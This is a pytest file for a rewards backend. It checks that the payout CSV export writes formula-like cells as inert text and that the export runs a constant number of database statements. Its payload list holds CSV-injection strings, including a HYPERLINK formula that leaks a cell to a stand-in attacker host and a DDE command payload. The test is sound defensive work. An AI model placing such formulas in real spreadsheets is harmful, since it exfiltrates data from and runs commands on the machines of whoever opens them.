"""The payout CSV for finance: formula-safe cells, and a constant number of statements however many rows."""

import csv
import io

import pytest
from sqlalchemy import event

from backend.extensions import db
from backend.models import PayoutBatch
from tests.test_rewards import _approved, finance, rule  # noqa: F401 - fixtures

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&B2,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def _offline_batch(api, run_jobs, finance, n: int) -> int:  # noqa: F811
    _approved(api, run_jobs, finance, n)
    batch = api.post("/api/v1/reward-admin/payouts", finance, json={"method": "offline"}).json
    assert len(batch["items"]) == n
    return batch["id"]


def _export(api, finance, batch_id: int) -> list[list[str]]:  # noqa: F811
    response = api.get(f"/api/v1/reward-admin/payouts/{batch_id}/export.csv", finance)
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"), newline="")))


def test_cells_that_spreadsheets_would_run_are_written_as_text(app, api, run_jobs, finance, rule):  # noqa: F811
    batch_id = _offline_batch(api, run_jobs, finance, 1)
    paid = api.post(f"/api/v1/reward-admin/payouts/{batch_id}/offline-paid", finance, json={"reference": PAYLOADS[0]})
    assert paid.status_code == 200, paid.json
    for payload in PAYLOADS:
        with app.app_context():
            db.session.get(PayoutBatch, batch_id).reference = payload
            db.session.commit()
        header, row = _export(api, finance, batch_id)
        assert row[header.index("reference")] == "'" + payload  # shown as text, never evaluated
    assert row[header.index("amount_yuan")] == "5.00" and row[header.index("status")] == "success"


def _statements_for_export(app, api, finance, batch_id: int) -> int:  # noqa: F811
    count = 0

    def counted(*_args):
        nonlocal count
        count += 1

    with app.app_context():
        engine = db.engine
    event.listen(engine, "before_cursor_execute", counted)
    try:
        rows = _export(api, finance, batch_id)
    finally:
        event.remove(engine, "before_cursor_execute", counted)
    assert all(row[5] for row in rows[1:])  # every openid there
    return count


@pytest.mark.parametrize("sizes", [(2, 6)])
def test_export_runs_the_same_statements_for_2_and_6_items(app, api, run_jobs, finance, rule, sizes):  # noqa: F811
    small = _offline_batch(api, run_jobs, finance, sizes[0])
    large = _offline_batch(api, run_jobs, finance, sizes[1])
    assert _statements_for_export(app, api, finance, small) == _statements_for_export(app, api, finance, large)
